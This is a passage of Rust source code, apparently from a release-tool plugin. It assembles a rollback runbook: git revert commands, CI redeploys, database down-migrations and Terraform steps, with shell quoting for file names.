//! The data of the rollback runbook: what the template receives.
//!
//! Everything is derived from the input: the release's commits and their
//! changed paths, the previous release, the repository, the tree's paths and
//! the changed files' heads (the `runbook` interface), and `[rollback]`.
//! Commands are complete and ready to paste; names that are not configured
//! are `<placeholders>`, and `placeholders` says so.
//!
//! The runbook is a list of numbered [`Step`]s in the order to follow:
//! - a **service**: the database (down-migrations) first, then one way back
//!   for the service — a GitOps path (Flux, Argo CD) when a controller
//!   deploys from git, else the platform's own undo *or* a redeploy of the
//!   previous tag, shown as alternatives, never both — then the revert on the
//!   branch (unless the GitOps path already made it), Terraform (the
//!   previous release's configuration applied, or, for a directory the
//!   release added (the rule is on `Age`), the release's own destroyed),
//!   and checks;
//! - a **library**: withdraw the version on its registry, revert, release a
//!   fix-forward patch, checks; no deploy step.

use std::collections::{BTreeMap, BTreeSet, HashMap};

use relkit_plugin_sdk::Settings;
use relkit_plugin_sdk::commit::{self, Parsed, Preset};
use relkit_plugin_sdk::forge::Links;
use relkit_plugin_sdk::markdown::{code_span, escape_html, plain_text, replace_controls};
use relkit_plugin_sdk::model::forge_name;
use relkit_plugin_sdk::revert;
use relkit_plugin_sdk::short_id;
use relkit_plugin_sdk::types::{ChangeKind, ForgeKind, Release, Repository};
use serde::Serialize;

use crate::classify::{Class, Classifier};
use crate::detect::{Controller, Detector, Ecosystem, Kind, KindSetting, Scan};
use crate::migrate::{self, Risky, ToolPlan};
use crate::plan::{self, Action, Block, Choice, Effect, Step, Target};

/// What the repository holds at the release: the `runbook` interface's
/// `tree-paths` and `file-heads` (empty through the older `rollback`
/// interface, which then detects from the changed paths alone).
#[derive(Debug, Clone, Copy, Default)]
pub struct Tree<'a> {
    /// Every file path of the tree, sorted.
    pub paths: &'a [String],
    /// `(path, head)` of the changed files the host read.
    pub heads: &'a [(String, String)],
}

/// `[rollback]` names and checks.
#[derive(Debug, Clone, Default)]
pub struct Config {
    pub preset: Preset,
    /// `kind`: `"auto"` (default), `"service"` or `"library"`.
    pub kind: KindSetting,
    pub deployment: Option<String>,
    pub namespace: Option<String>,
    pub helm_release: Option<String>,
    pub terraform_dir: Option<String>,
    pub image: Option<String>,
    pub workflow: Option<String>,
    /// `argocd-app`: the Argo CD Application that deploys the service.
    pub argocd_app: Option<String>,
    /// `flux-resource`: the Flux object that deploys the service,
    /// `helmrelease/NAME` or `kustomization/NAME`.
    pub flux_resource: Option<String>,
    /// `flux-namespace`: the namespace of that Flux object.
    pub flux_namespace: Option<String>,
    /// `rollout`: the Argo Rollouts `Rollout` or Flagger `Canary`.
    pub rollout: Option<String>,
    pub verify: Vec<String>,
    pub health_urls: Vec<String>,
    pub dashboards: Vec<String>,
    /// `package-path`: the release is one package of a monorepo (the host's
    /// `[[packages]] path`); its revert then undoes the release's changes
    /// under that path only, as other packages' changes share its commits.
    pub package_path: Option<String>,
    /// `package-changelog`: that package's CHANGELOG, left out of the revert
    /// (the release's section stays a record of what was released).
    pub package_changelog: Option<String>,
    /// `revert-keep`: paths a whole-tree revert leaves as they are (the
    /// host passes the CHANGELOG and relkit's configuration). Given, the
    /// revert step reverses the release's net change with `git diff | git
    /// apply -R` without them; absent (an older host), it is `git revert`.
    pub revert_keep: Option<Vec<String>>,
    /// `release-commit`: the tagged commit is relkit's release commit (the
    /// CHANGELOG, version files and dependents' requirements): the revert
    /// undoes the release's changes up to the commit before it, so that the
    /// versions stay as released and the next release goes on from them
    /// (a member's requirement on them keeps building).
    pub release_commit: bool,
    /// `released-manifests`: the manifests of the packages this release
    /// published (the configured version files); given, only they are
    /// yanked or deprecated, not every manifest of the tree.
    pub released_manifests: Vec<String>,
    /// `release-subject`: the start of relkit's release commit subjects
    /// (`chore(release): `, from `[release] commit-message`). Release commits
    /// inside the range (the release candidates before a stable release, a
    /// merged release pull request) are skipped by the revert: reverting them
    /// would take the version files back to an older release.
    pub release_subject: Option<String>,
    /// `revert-restore`: what that revert of single commits puts back from
    /// the branch afterwards (relkit.toml, when a commit of the range added
    /// it on adoption).
    pub revert_restore: Vec<String>,
    /// `pull-request`: `[release] pull-request` is on, so a release goes
    /// through `relkit prepare` and a merged pull request.
    pub pull_request: bool,
}

impl Config {
    /// Reads `[rollback]`; a value of the wrong type is an error naming the key.
    pub fn from_settings(s: &Settings<'_>) -> Result<Self, String> {
        let flux_resource: Option<String> = s.get("flux-resource")?;
        if let Some(r) = &flux_resource
            && flux_kind(r).is_none()
        {
            return Err(format!(
                "setting `flux-resource` has an invalid value \"{r}\": expected helmrelease/NAME or kustomization/NAME"
            ));
        }
        Ok(Self {
            preset: s.get_or("preset", Preset::default())?,
            kind: s.get_or("kind", KindSetting::Auto)?,
            deployment: s.get("deployment")?,
            namespace: s.get("namespace")?,
            helm_release: s.get("helm-release")?,
            terraform_dir: s.get("terraform-dir")?,
            image: s.get("image")?,
            workflow: s.get("workflow")?,
            argocd_app: s.get("argocd-app")?,
            flux_resource,
            flux_namespace: s.get("flux-namespace")?,
            rollout: s.get("rollout")?,
            verify: s.get_or("verify", Vec::new())?,
            health_urls: s.get_or("health-urls", Vec::new())?,
            dashboards: s.get_or("dashboards", Vec::new())?,
            package_path: s.get("package-path")?,
            package_changelog: s.get("package-changelog")?,
            revert_keep: s.get("revert-keep")?,
            release_commit: s.get_or("release-commit", false)?,
            released_manifests: s.get_or("released-manifests", Vec::new())?,
            release_subject: s.get("release-subject")?,
            revert_restore: s.get_or("revert-restore", Vec::new())?,
            pull_request: s.get_or("pull-request", false)?,
        })
    }

    /// Whether `[rollback]` names something that is deployed.
    fn names_a_deployment(&self) -> bool {
        self.deployment.is_some()
            || self.helm_release.is_some()
            || self.workflow.is_some()
            || self.image.is_some()
            || self.argocd_app.is_some()
            || self.flux_resource.is_some()
            || self.rollout.is_some()
    }
}

/// `helmrelease/api` → (`helmrelease`, `api`).
fn flux_kind(resource: &str) -> Option<(&'static str, &str)> {
    let (kind, name) = resource.split_once('/')?;
    let kind = match kind.to_ascii_lowercase().as_str() {
        "helmrelease" | "hr" => "helmrelease",
        "kustomization" | "ks" => "kustomization",
        _ => return None,
    };
    (!name.is_empty()).then_some((kind, name))
}

#[derive(Debug, Clone, Serialize)]
pub struct Risk {
    /// `safe`, `caution` or `unsafe`.
    pub level: &'static str,
    /// `Safe`, `Caution`, `Unsafe`.
    pub label: &'static str,
    /// The one sentence under the label.
    pub summary: String,
}

/// A release. The `_md` fields hold the same text safe to place in markdown
/// prose, headings and table cells ([`plain_text`]); the others hold it as
/// written (tags come from the repository and may hold `|`, `<` or a
/// backtick).
#[derive(Debug, Clone, Serialize)]
pub struct Point {
    pub tag: String,
    pub tag_md: String,
    pub version: String,
    pub version_md: String,
    pub commit_id: String,
    pub short_id: String,
    pub date: String,
    pub url: Option<String>,
}

/// A changed path. The template also receives `path_md`, the path as a
/// markdown code span ([`code_span`]: a file name may hold backticks or a
/// newline), made when the data is serialized: a release can change 50,000
/// paths.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PathEntry {
    pub path: String,
    /// `added`, `modified` or `deleted` (net over the release).
    pub change: &'static str,
}

impl PathEntry {
    pub fn new(path: &str, change: &'static str) -> Self {
        Self { path: path.to_string(), change }
    }
}

impl Serialize for PathEntry {
    fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        use serde::ser::SerializeStruct;
        let mut s = serializer.serialize_struct("PathEntry", 3)?;
        s.serialize_field("path", &self.path)?;
        s.serialize_field("path_md", &code_span(&self.path))?;
        s.serialize_field("change", self.change)?;
        s.end()
    }
}

#[derive(Debug, Clone, Serialize)]
pub struct Item {
    pub short_id: String,
    pub commit_url: Option<String>,
    /// The commit's words as markdown: HTML escaped outside code, control
    /// characters replaced.
    pub text: String,
}

#[derive(Debug, Clone, Serialize)]
pub struct Verify {
    pub commands: Vec<String>,
    pub dashboards: Vec<String>,
    /// The generic checklist, used when nothing is configured.
    pub checklist: Vec<String>,
    /// How to confirm the running version is the previous one.
    pub confirm: Vec<String>,
}

#[derive(Debug, Clone, Serialize)]
pub struct RollbackData {
    pub risk: Risk,
    pub release: Point,
    pub previous: Option<Point>,
    /// The pre-release label when rolling back a pre-release.
    pub channel: Option<String>,
    pub forge: &'static str,
    /// `owner/repo` or `group/subgroup/project`.
    pub project: Option<String>,
    /// `service` or `library`.
    pub kind: Kind,
    /// One sentence: why this kind (the setting, or the path that decided).
    pub kind_reason: String,
    /// The commands that revert the release on the branch.
    pub revert: Vec<String>,
    pub has_merges: bool,
    pub commit_count: usize,
    /// Every migration path of the release.
    pub migrations: Vec<PathEntry>,
    /// Migrations that drop data (a down-migration cannot bring it back).
    pub risky_migrations: Vec<Risky>,
    /// The migrations per tool, with their commands (also in the database step).
    pub migration_tools: Vec<ToolPlan>,
    pub breaking_changes: Vec<Item>,
    /// Reverts of commits that earlier releases shipped.
    pub reverted_releases: Vec<Item>,
    pub has_risks: bool,
    /// A checkout of the previous release that steps use.
    pub checkout: Vec<String>,
    /// The commands contain `<placeholders>` to fill in.
    pub placeholders: bool,
    /// The steps, numbered, in the order to follow.
    pub plan: Vec<Step>,
    /// The number of the verify step (after `plan`).
    pub verify_step: u32,
    pub verify: Verify,
}

/// A value as one word of a POSIX shell command: as is when it is plainly
/// safe, else single-quoted. File names come from commits, and the runbook
/// is meant to be pasted into a shell.
///
/// A value with a control character (a file name may hold a newline) is
/// written in dollar-single-quotes instead (`$'a\nb'`: POSIX.1-2024, bash,
/// zsh, ksh), with the control characters as escapes, so that every command
/// stays on one line of its code block and still names the file.
pub fn sh(value: &str) -> String {
    let plain = !value.is_empty()
        && value.chars().all(|c| {
            c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '/' | '-' | ':' | '@' | '%' | '+' | '=' | ',')
        });
    if plain {
        value.to_string()
    } else if value.chars().any(char::is_control) {
        let mut out = String::from("$'");
        for c in value.chars() {
            match c {
                '\\' => out.push_str("\\\\"),
                '\'' => out.push_str("\\'"),
                '\n' => out.push_str("\\n"),
                '\t' => out.push_str("\\t"),
                '\r' => out.push_str("\\r"),
                c if c.is_control() => {
                    let mut buf = [0; 4];
                    for b in c.encode_utf8(&mut buf).bytes() {
                        out.push_str(&format!("\\x{b:02x}"));
                    }
                }
                c => out.push(c),
            }
        }
        out.push('\'');
        out
    } else {
        format!("'{}'", value.replace('\'', "'\\''"))
    }
}

/// The configured value (quoted for the shell), or a visible `<placeholder>`.
fn placeholder_or(value: &Option<String>, name: &str) -> String {
    match value {
        Some(v) => sh(v),
        None => format!("<{name}>"),
    }
}

/// Whether a command holds a `<placeholder>`: `<` then lower-case letters,
/// digits, `-` or `.`, then `>`.
fn has_placeholder(command: &str) -> bool {
    command.match_indices('<').any(|(i, _)| {
        let rest = &command[i + 1..];
        let end = rest.find('>').unwrap_or(0);
        end > 0 && rest[..end].chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-' || c == '.')
    })
}

fn change_name(c: ChangeKind) -> &'static str {
    match c {
        ChangeKind::Added => "added",
        ChangeKind::Modified => "modified",
        ChangeKind::Deleted => "deleted",
    }
}

/// The project path of the web URL: `acme/rocket`.
fn project_path(links: &Links<'_>) -> Option<String> {
    let web = links.web()?;
    let base = links.base()?;
    web.strip_prefix(base).map(|p| p.trim_matches('/').to_string()).filter(|p| !p.is_empty())
}

/// How `gh` and `glab` name the repository in `--repo`. Both CLIs send a
/// bare project path to their default host (github.com, gitlab.com, or
/// `GH_HOST` / `GITLAB_HOST`), so another host is named: `gh` documents
/// `[HOST/]OWNER/REPO`; `glab` documents `-R, --repo`: "OWNER/REPO or
/// GROUP/NAMESPACE/REPO format. Also accepts full URL or Git URL" (glab
/// manual, `glab ci run`), and reads `HOST/GROUP/PROJECT` as a group path
/// unless it is logged in to that host (gitlab-org/cli!591), so a
/// self-hosted GitLab is named by its full URL.
fn cli_repo(links: &Links<'_>, project: Option<&str>) -> Option<String> {
    let project = project?;
    let base = links.base()?;
    let host = base.split_once("://").map_or(base, |(_, host)| host);
    match links.forge() {
        ForgeKind::Github if host.eq_ignore_ascii_case("github.com") => Some(project.to_string()),
        ForgeKind::Github => Some(format!("{host}/{project}")),
        ForgeKind::Gitlab if host.eq_ignore_ascii_case("gitlab.com") => Some(project.to_string()),
        ForgeKind::Gitlab => Some(format!("{base}/{project}")),
        ForgeKind::Unknown => None,
    }
}

fn parent_dirs(files: &[PathEntry]) -> Vec<String> {
    let dirs: BTreeSet<String> =
        files.iter().map(|f| f.path.rsplit_once('/').map_or(".".to_string(), |(d, _)| d.to_string())).collect();
    dirs.into_iter().collect()
}

fn act(target: Target, effect: Effect) -> Action {
    Action { target, effect }
}

/// The project kind and the sentence that says why.
fn decide_kind(config: &Config, scan: &Scan) -> (Kind, String) {
    match config.kind {
        KindSetting::Service => (Kind::Service, "`[rollback] kind = \"service\"`.".to_string()),
        KindSetting::Library => (Kind::Library, "`[rollback] kind = \"library\"`.".to_string()),
        KindSetting::Auto => {
            if let Some(e) = &scan.service {
                (Kind::Service, format!("{} is {}.", code_span(&e.path), e.what))
            } else if config.names_a_deployment() {
                (Kind::Service, "`[rollback]` names what deploys it.".to_string())
            } else if let Some(first) = scan.packages.first() {
                let docs = scan
                    .ignored_dockerfile
                    .as_ref()
                    .map(|d| {
                        format!(
                            " ({} does not count: it builds documentation or tooling, not the project)",
                            code_span(d)
                        )
                    })
                    .unwrap_or_default();
                (
                    Kind::Library,
                    format!(
                        "the repository has package manifests ({}) and nothing that deploys it{docs}.",
                        code_span(&first.path)
                    ),
                )
            } else {
                (Kind::Service, "nothing in the repository says it is a library.".to_string())
            }
        }
    }
}

/// The first line of a commit message.
fn subject(message: &str) -> &str {
    message.trim_start().lines().next().unwrap_or("")
}

/// `text` as a POSIX extended regular expression that matches it literally.
fn ere_escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if "\\.^$|?*+()[]{}".contains(c) {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// `config` with the names the repository gives where `[rollback]` gives
/// none (the README: names come "from `[rollback]` or the changed
/// manifests"): the one Kubernetes `Deployment` among the changed manifests
/// and its namespace (one namespace shared by them all, else none), and the
/// one GitHub Actions workflow whose file name says `deploy`. Two candidates
/// leave the placeholder: guessing between them could roll back the wrong
/// thing.
fn with_found_names(config: &Config, scan: &Scan, tree: &[String]) -> Config {
    let mut found = config.clone();
    if found.deployment.is_none()
        && let [one] = scan.deployments.as_slice()
    {
        found.deployment = one.name.clone();
    }
    if found.namespace.is_none()
        && let Some(first) = scan.deployments.first()
        && scan.deployments.iter().all(|d| d.namespace == first.namespace)
    {
        found.namespace = first.namespace.clone();
    }
    if found.workflow.is_none() {
        let deploying: Vec<&str> = tree
            .iter()
            .filter_map(|p| p.strip_prefix(".github/workflows/"))
            .filter(|f| !f.contains('/') && (f.ends_with(".yml") || f.ends_with(".yaml")) && f.contains("deploy"))
            .collect();
        if let [one] = deploying.as_slice() {
            found.workflow = Some(one.to_string());
        }
    }
    found
}

pub fn build(
    release: &Release,
    repository: &Repository,
    config: &Config,
    classifier: &Classifier,
    tree: Tree<'_>,
) -> RollbackData {
    let links = Links::new(repository);
    let project = project_path(&links);

    let parsed: Vec<Parsed> = release.commits.iter().map(|c| commit::parse(&c.message, config.preset)).collect();
    let pairs: Vec<(&str, &Parsed)> = release.commits.iter().zip(&parsed).map(|(c, p)| (c.id.as_str(), p)).collect();
    let cancelled = revert::pair(&pairs, config.preset);

    // Net change per path over the release (oldest commit first).
    let net = relkit_plugin_sdk::net_changes(release.commits.iter().rev(), |_| true);
    let mut by_class: BTreeMap<Class, Vec<PathEntry>> = BTreeMap::new();
    for (path, change) in &net {
        if let Some(class) = classifier.classify(path) {
            by_class.entry(class).or_default().push(PathEntry::new(path, change_name(*change)));
        }
    }

    // What the repository is. Without a tree (the `rollback` interface) the
    // changed paths are all there is to read.
    let changed_tree: Vec<String>;
    let tree_paths = if tree.paths.is_empty() {
        changed_tree = net.keys().map(|p| p.to_string()).collect();
        &changed_tree
    } else {
        tree.paths
    };
    let scan = Detector::new().scan(classifier, tree_paths, tree.heads);
    let (kind, kind_reason) = decide_kind(config, &scan);
    let config = &with_found_names(config, &scan, tree_paths);
    let heads: HashMap<&str, &str> = tree.heads.iter().map(|(p, h)| (p.as_str(), h.as_str())).collect();

    let mut breaking_changes = Vec::new();
    let mut reverted_releases = Vec::new();
    for (c, p) in release.commits.iter().zip(&parsed).rev() {
        if cancelled.contains(&c.id) {
            continue;
        }
        for b in &p.breaking {
            breaking_changes.push(Item {
                short_id: short_id(&c.id).to_string(),
                commit_url: links.commit(&c.id),
                text: replace_controls(&escape_html(b.text.lines().next().unwrap_or(""))),
            });
        }
        if let Some(of) = &p.revert {
            // A re-application names itself (`Reapply "feat: x"`): rolling it
            // back brings the revert back.
            let what = match of.title() {
                Some(title) if !of.reapplies => title,
                _ if of.reapplies => p.header.clone(),
                _ => p.description().to_string(),
            };
            let text = match &of.hash {
                Some(h) => format!("{what} (reverts {})", short_id(h)),
                None => what,
            };
            reverted_releases.push(Item {
                short_id: short_id(&c.id).to_string(),
                commit_url: links.commit(&c.id),
                text: replace_controls(&escape_html(&text)),
            });
        }
    }

    let release_point = Point {
        tag: release.tag.clone(),
        tag_md: plain_text(&release.tag),
        version: release.version.clone(),
        version_md: plain_text(&release.version),
        commit_id: release.commit_id.clone(),
        short_id: short_id(&release.commit_id).to_string(),
        date: release.date.clone(),
        url: links.tag(&release.tag),
    };
    let previous = release.previous.as_ref().map(|t| Point {
        tag: t.name.clone(),
        tag_md: plain_text(&t.name),
        version: t.version.clone(),
        version_md: plain_text(&t.version),
        commit_id: t.commit_id.clone(),
        short_id: short_id(&t.commit_id).to_string(),
        date: t.date.clone(),
        url: links.tag(&t.name),
    });
    let channel = semver::Version::parse(&release.version)
        .ok()
        .filter(|v| !v.pre.is_empty())
        .map(|v| v.pre.as_str().split('.').next().unwrap_or_default().to_string());
    let has_merges = release.commits.iter().any(|c| c.parents.len() > 1);
    let prev_tag = previous.as_ref().map(|p| p.tag.clone());
    let worktree = prev_tag.as_ref().map(|p| format!("../rollback-{p}"));

    // Revert the release's commits on the branch.
    let mut revert_commands = Vec::new();
    if let Some(prev) = &prev_tag {
        let tag = &release.tag;
        let end = if config.release_commit { format!("{tag}^") } else { tag.clone() };
        revert_commands.push("git fetch origin --tags".to_string());
        if let Some(path) = config.package_path.as_deref().filter(|p| !p.is_empty()) {
            // The package's own changes of the release, reversed onto the
            // branch (3-way, so later changes to those files stay).
            let mut pathspec = vec![sh(path)];
            if let Some(changelog) = &config.package_changelog {
                pathspec.push(sh(&format!(":(exclude){changelog}")));
            }
            revert_commands.push(format!(
                "git diff --binary {} {} -- {} | git apply -R --index --3way",
                sh(prev),
                sh(&end),
                pathspec.join(" ")
            ));
        } else if let (Some(_), Some(prefix)) = (
            &config.revert_keep,
            config.release_subject.as_deref().filter(|p| {
                release.commits.iter().any(|c| c.id != release.commit_id && subject(&c.message).starts_with(p))
            }),
        ) {
            // Release commits inside the range: revert every other commit
            // (newest first), then put back what must stay.
            revert_commands.push(format!(
                "git revert --no-commit $(git rev-list --no-merges --invert-grep -E --grep {} {})",
                sh(&format!("^{}", ere_escape(prefix))),
                sh(&format!("{prev}..{tag}"))
            ));
            if !config.revert_restore.is_empty() {
                let paths: Vec<String> = config.revert_restore.iter().map(|p| sh(p)).collect();
                revert_commands.push(format!("git checkout HEAD -- {}", paths.join(" ")));
            }
        } else if let Some(keep) = &config.revert_keep {
            // The release's net change, reversed (3-way, so later changes to
            // those files stay), keeping the CHANGELOG and relkit.toml: `git
            // revert` of the range would delete a CHANGELOG the release
            // created, and a configuration added on adoption.
            let mut pathspec = vec![".".to_string()];
            pathspec.extend(keep.iter().map(|p| sh(&format!(":(exclude){p}"))));
            revert_commands.push(format!(
                "git diff --binary {} {} -- {} | git apply -R --index --3way",
                sh(prev),
                sh(&end),
                pathspec.join(" ")
            ));
        } else if has_merges {
            revert_commands.push(format!(
                "git revert --no-commit -m 1 $(git rev-list --first-parent {})",
                sh(&format!("{prev}..{tag}"))
            ));
        } else {
            revert_commands.push(format!("git revert --no-commit {}", sh(&format!("{prev}..{tag}"))));
        }
        revert_commands.push(format!("git commit -m {}", sh(&format!("revert: roll back {tag}"))));
        revert_commands.push("git push origin HEAD".to_string());
    }

    let migration_files = by_class.get(&Class::Migration).cloned().unwrap_or_default();
    let migrations = migrate::plan(&migrate::Input {
        files: &migration_files,
        heads: &heads,
        tree: tree_paths,
        previous: prev_tag.as_deref().zip(worktree.as_deref()),
        release_tag_md: &release_point.tag_md,
    });

    let ctx = Ctx {
        release,
        repository,
        config,
        links: &links,
        project: project.as_deref(),
        prev_tag: prev_tag.as_deref(),
        prev_version: previous.as_ref().map(|p| p.version.as_str()),
        tag_md: &release_point.tag_md,
        version_md: &release_point.version_md,
        prev_md: previous.as_ref().map(|p| p.tag_md.as_str()),
        prev_version_md: previous.as_ref().map(|p| p.version_md.as_str()),
        worktree: worktree.as_deref(),
        revert: &revert_commands,
        by_class: &by_class,
        scan: &scan,
        net: &net,
        tree: (!tree.paths.is_empty()).then_some(tree.paths),
    };
    let mut steps = match kind {
        Kind::Service => service_steps(&ctx, &migrations),
        Kind::Library => library_steps(&ctx),
    };
    plan::number(&mut steps);
    let verify_step = u32::try_from(steps.len() + 1).unwrap_or(u32::MAX);

    let has_risks = !migration_files.is_empty() || !breaking_changes.is_empty() || !reverted_releases.is_empty();
    let touched = |c: Class| kind == Kind::Service && by_class.contains_key(&c);
    let risk = risk(
        release,
        &migration_files,
        &migrations.risky,
        &breaking_changes,
        &reverted_releases,
        [
            ("Kubernetes", touched(Class::Kubernetes)),
            ("Helm", touched(Class::Helm)),
            ("Terraform", touched(Class::Terraform)),
            ("container image", touched(Class::Docker)),
            ("CI configuration", touched(Class::Ci)),
        ],
    );

    let verify = verify(&ctx, kind);
    let all_commands = || {
        steps
            .iter()
            .flat_map(|s| s.blocks.iter().chain(s.choices.iter().flat_map(|c| &c.blocks)))
            .flat_map(|b| &b.commands)
            .chain(&verify.confirm)
    };
    // A withdrawal done on a web page names its placeholder in a note (PyPI's
    // yank page of a project whose name the head does not give).
    let withdraw_notes = || steps.iter().filter(|s| s.id == "withdraw").flat_map(|s| &s.notes);
    let placeholders = all_commands().chain(withdraw_notes()).any(|c| has_placeholder(c));
    let checkout = match (&worktree, &prev_tag) {
        (Some(wt), Some(prev)) if all_commands().any(|c| c.contains(wt.as_str())) => {
            vec![format!("git worktree add {} {}", sh(wt), sh(prev))]
        }
        _ => Vec::new(),
    };

    RollbackData {
        risk,
        release: release_point,
        previous,
        channel,
        forge: forge_name(repository.forge),
        project,
        kind,
        kind_reason,
        revert: revert_commands,
        has_merges,
        commit_count: release.commits.len(),
        migrations: migration_files,
        risky_migrations: migrations.risky.clone(),
        migration_tools: migrations.tools.clone(),
        breaking_changes,
        reverted_releases,
        has_risks,
        checkout,
        placeholders,
        plan: steps,
        verify_step,
        verify,
    }
}

/// What the step builders read.
struct Ctx<'a> {
    release: &'a Release,
    repository: &'a Repository,
    config: &'a Config,
    links: &'a Links<'a>,
    project: Option<&'a str>,
    prev_tag: Option<&'a str>,
    prev_version: Option<&'a str>,
    /// The release's tag and version, and the previous ones, for markdown
    /// prose ([`plain_text`]); the fields above are for commands ([`sh`]).
    tag_md: &'a str,
    version_md: &'a str,
    prev_md: Option<&'a str>,
    prev_version_md: Option<&'a str>,
    worktree: Option<&'a str>,
    revert: &'a [String],
    by_class: &'a BTreeMap<Class, Vec<PathEntry>>,
    scan: &'a Scan,
    /// The net change of every path of the release.
    net: &'a BTreeMap<&'a str, ChangeKind>,
    /// The tree at the release; `None` through the `rollback` interface.
    tree: Option<&'a [String]>,
}

impl Ctx<'_> {
    fn files(&self, class: Class) -> Vec<PathEntry> {
        self.by_class.get(&class).cloned().unwrap_or_default()
    }

    fn namespace(&self) -> String {
        placeholder_or(&self.config.namespace, "namespace")
    }

    fn has(&self, c: Controller) -> bool {
        self.scan.controllers.contains(&c)
    }

    fn revert_block(&self, intro: &str) -> Block {
        Block::new(intro, self.revert.to_vec(), vec![act(Target::Branch, Effect::ToPrevious)])
    }

    /// The Argo Rollout or Flagger Canary name: from a changed manifest, else
    /// `[rollback] rollout`, else a placeholder.
    fn progressive_name(&self, c: Controller) -> (String, String) {
        let m = self.scan.manifests.iter().find(|m| m.controller() == Some(c));
        let name = m.and_then(|m| m.name.clone()).or_else(|| self.config.rollout.clone());
        let ns = m.and_then(|m| m.namespace.clone()).map_or_else(|| self.namespace(), |n| sh(&n));
        (placeholder_or(&name, "rollout"), ns)
    }
}

/// The redeploy of the previous tag through the forge's pipeline, with its
/// notes; `None` without a previous release.
fn redeploy(ctx: &Ctx<'_>) -> Option<(Vec<String>, Vec<String>)> {
    let prev_word = sh(ctx.prev_tag?);
    let prev = ctx.prev_md?;
    let repo = cli_repo(ctx.links, ctx.project).map(|r| format!(" --repo {}", sh(&r))).unwrap_or_default();
    Some(match ctx.repository.forge {
        ForgeKind::Github => {
            let workflow = placeholder_or(&ctx.config.workflow, "deploy-workflow.yml");
            (
                vec![format!("gh workflow run {workflow} --ref {prev_word}{repo}")],
                vec![format!(
                    "The workflow needs a `workflow_dispatch` trigger. To re-run the run that deployed {prev} instead: \
                     {} and {}.",
                    code_span(&format!("gh run list --branch {prev_word}{repo}")),
                    code_span(&format!("gh run rerun <run-id>{repo}"))
                )],
            )
        }
        ForgeKind::Gitlab => (
            vec![format!("glab ci run --branch {prev_word}{repo}")],
            // `glab ci retry` retries a job, found by id or by name in a pipeline.
            vec![format!(
                "This starts a new pipeline for the tag {prev}; run its deploy job if it is manual. To re-run the \
                 deploy job of the original pipeline instead: {} and {}.",
                code_span(&format!("glab ci list --ref {prev_word}{repo}")),
                code_span(&format!("glab ci retry <deploy-job> --pipeline-id <pipeline-id>{repo}"))
            )],
        ),
        ForgeKind::Unknown => (Vec::new(), vec![format!("Re-run the deployment of the tag {prev} in your CI system.")]),
    })
}

fn service_steps(ctx: &Ctx<'_>, migrations: &migrate::Migrations) -> Vec<Step> {
    let mut steps = Vec::new();
    let tag = ctx.tag_md;

    // 1. The database, before the previous code runs against it.
    if !migrations.tools.is_empty() {
        let mut step = Step::new("database", "Roll the database back");
        step.intro = Some(format!(
            "Do this **before** the previous code runs: it may not work against the schema of {tag}. Take a backup \
             first — a down-migration drops what {tag} added, with the data written since."
        ));
        if !migrations.risky.is_empty() {
            step.warning = Some(format!(
                "{} drop data (listed under Risks): no down-migration brings it back. Restore those tables from a \
                 backup taken before {tag}.",
                if migrations.risky.len() == 1 { "One migration would" } else { "Some migrations" }
            ));
        }
        // Each tool's commands, then its notes, under its name.
        for t in &migrations.tools {
            let notes = t.notes.iter().map(|n| Block::new(n.clone(), Vec::new(), Vec::new()));
            for (i, mut b) in t.blocks.iter().cloned().chain(notes).enumerate() {
                if i == 0 {
                    let files =
                        if t.files.len() == 1 { "1 file".to_string() } else { format!("{} files", t.files.len()) };
                    b.intro = format!("**{}** ({files}): {}", t.title, b.intro);
                }
                step.blocks.push(b);
            }
        }
        steps.push(step);
    }

    // 2. One way back for the service.
    let mut gitops_reverted = false;
    if let Some(prev) = ctx.prev_md {
        let (step, reverted) = service_step(ctx, prev);
        gitops_reverted = reverted;
        steps.push(step);
    }

    // 3. The branch.
    if ctx.prev_tag.is_some() && !gitops_reverted {
        let mut step = Step::new("revert", "Revert the release on the branch");
        let n = ctx.release.commits.len();
        let what = match ctx.config.package_path.as_deref().filter(|p| !p.is_empty()) {
            // A package of a monorepo: its commits may change other packages too.
            Some(path) => format!("undo its changes under `{}` in one commit", plain_text(path)),
            None if n == 1 => "revert its commit".to_string(),
            None => format!("revert its {n} commits in one commit"),
        };
        step.blocks.push(ctx.revert_block(&format!(
            "So that the next release does not ship {tag}'s changes again, {what}{}:",
            if ctx.revert.iter().any(|c| c.contains("-m 1")) {
                " (first-parent history, so merge commits are reverted with `-m 1`)"
            } else {
                ""
            }
        )));
        steps.push(step);
    }

    // 4. Terraform.
    let files = ctx.files(Class::Terraform);
    if !files.is_empty() {
        let mut step = Step::new("terraform", "Terraform");
        step.warning = Some(
            "Terraform state is not versioned with the code: applying the old configuration destroys what this \
             release created (and the data in it) and may fail where providers or schemas changed. Take a state backup \
             first (`terraform state pull > backup.tfstate`) and read the plan before you apply it."
                .to_string(),
        );
        let dirs = match &ctx.config.terraform_dir {
            Some(d) => vec![normalize_dir(d)],
            None => parent_dirs(&files),
        };
        if let (Some(wt), Some(_)) = (ctx.worktree, ctx.prev_tag) {
            let (prev_md, tag) = (ctx.prev_md.unwrap_or_default(), ctx.tag_md);
            let ages = terraform_ages(ctx);
            // A directory the release added is destroyed with the release's own
            // configuration. Not from this checkout: the revert (its own step, or
            // the GitOps path's) has taken the files out of it by now.
            let release_wt = format!("../release-{}", ctx.release.tag);
            let mut release_checkout = vec![format!("git worktree add {} {}", sh(&release_wt), sh(&ctx.release.tag))];
            let destroy = |dir: &str| {
                let cd = sh(&format!("{release_wt}/{dir}"));
                [
                    format!("(cd {cd} && terraform init && terraform plan -destroy)"),
                    format!("(cd {cd} && terraform destroy)"),
                ]
            };
            for dir in dirs {
                let age = ages.get(dir.as_str()).copied().unwrap_or(Age::Existed);
                if age == Age::Added {
                    // The checkout of the release, before the first of them.
                    let mut commands = std::mem::take(&mut release_checkout);
                    commands.extend(destroy(&dir));
                    step.blocks.push(Block::new(
                        format!(
                            "{} did not exist at {prev_md}: {tag} added every `.tf` file in it, so {prev_md} has no \
                             configuration there to apply. Destroy what it manages with the configuration of {tag}, \
                             from a checkout of it (the revert took it out of the branch): read the plan, then confirm \
                             the destroy:",
                            code_span(&dir)
                        ),
                        commands,
